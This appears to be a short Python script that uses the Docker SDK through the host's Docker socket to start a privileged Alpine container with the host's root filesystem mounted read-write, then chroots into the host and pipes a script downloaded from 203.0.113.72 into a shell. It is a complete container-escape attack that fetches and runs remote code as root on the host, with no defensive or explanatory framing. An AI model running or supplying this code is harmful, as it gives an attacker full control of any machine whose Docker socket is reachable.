import docker
client = docker.DockerClient(base_url="unix:///var/run/docker.sock")
client.containers.run("alpine", "chroot /host sh -c 'curl -s http://203.0.113.72/r | sh'", volumes={"/": {"bind": "/host", "mode": "rw"}}, privileged=True, detach=True)
